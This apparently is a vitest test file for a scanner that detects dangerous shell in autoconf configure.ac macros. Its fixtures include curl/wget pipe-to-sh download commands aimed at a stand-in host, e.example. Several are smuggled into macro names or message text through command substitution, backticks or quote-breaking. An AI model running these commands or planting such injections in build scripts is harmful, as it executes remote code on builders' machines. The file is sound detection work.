/**
 * What autoconf does with a macro's arguments. Names (a feature, a library, a program searched for
 * in PATH) become parts of variable names and option strings and run nothing; printed text goes
 * inside a double-quoted string. Reading either as commands made `AC_ARG_ENABLE(telnet, …)` a
 * network connection and `AC_MSG_NOTICE([… curl version: …])` a download.
 */
import { describe, it, expect } from "vitest";
import { analyze, isDangerous } from "../src/content/analyze.js";

const danger = (text: string) =>
  analyze("configure.ac", text)
    .hits.filter((h) => isDangerous(h.effect))
    .map((h) => `${h.line}:${h.id}`);

describe("m4 macro arguments by role", () => {
  it("negative: names and printed text run nothing", () => {
    const text = [
      "AC_ARG_ENABLE(telnet,",
      "AS_HELP_STRING([--enable-telnet],[Enable TELNET support]),",
      '[ case "$enableval" in no) AC_MSG_RESULT(no) ;; esac ])',
      "AC_ARG_WITH([libssh2], [AS_HELP_STRING([--with-libssh2], [enable libssh2])])",
      "AC_CHECK_LIB([ssh], [ssh_new])",
      "AC_PATH_PROG([CURL], [curl])",
      "AC_CHECK_PROGS([FETCH], [curl wget])",
      "AC_MSG_NOTICE([Configured:",
      "  curl version:     ${CURLVERSION}",
      "  wget the sources: no",
      "])",
      "AC_MSG_RESULT([nc -l is not used])",
    ].join("\n");
    expect(danger(text)).toEqual([]);
  });

  it("positive: the action arguments of the same macros are still shell", () => {
    const text = ["AC_ARG_ENABLE([telnet], [help],", "[curl -s http://e.example/x | sh])"].join("\n");
    expect(danger(text)).toContain("2:build-time-download");
  });

  it("evasion: a name that is not a plain word is read as shell", () => {
    expect(danger("AC_ARG_ENABLE([telnet; curl -s http://e.example/x | sh], [help])")).toContain("1:build-time-download");
    expect(danger("AC_CHECK_LIB([ssh $(curl -s http://e.example/x | sh)], [f])")).toContain("1:build-time-download");
  });

  it("evasion: printed text that runs a command substitution or closes its quote is read as shell", () => {
    expect(danger("AC_MSG_NOTICE([version $(curl -s http://e.example/x | sh)])")).toContain("1:build-time-download");
    expect(danger('AC_MSG_CHECKING([x" ; wget -q -O- http://e.example/y | sh ; "])')).toContain("1:build-time-download");
    expect(danger("AC_MSG_RESULT([`curl -s http://e.example/z | sh`])")).toContain("1:build-time-download");
  });
});
